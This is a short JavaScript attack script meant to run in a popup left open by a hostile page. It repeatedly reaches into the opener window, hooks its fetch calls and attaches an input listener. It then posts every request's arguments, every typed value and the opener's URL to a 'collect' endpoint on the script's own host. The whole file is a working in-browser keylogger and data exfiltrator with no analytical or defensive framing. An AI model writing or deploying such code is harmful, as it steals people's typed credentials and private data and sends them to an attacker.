// Runs in a window that the hostile section left open: reads and hooks whatever page its opener shows next.

const host = new URL('.', document.currentScript.src).href;
const hooked = new WeakSet();
const send = (row, got) =>
  fetch(`${host}collect`, { method: 'POST', body: JSON.stringify({ row, got: String(got) }) });

function look() {
  try {
    const page = window.opener;
    if (page === null || page.closed) return;
    if (!hooked.has(page.fetch)) {
      const native = page.fetch.bind(page);
      page.fetch = (...given) => {
        void send('hooked opener', JSON.stringify(given));
        return native(...given);
      };
      hooked.add(page.fetch);
      page.addEventListener('input', ({ target }) => send('typed into the opener', target.value), true);
      void send('opener', page.location.href);
    }
  } catch (error) {
    void send('opener refused', error);
  }
}

setInterval(look, 20);
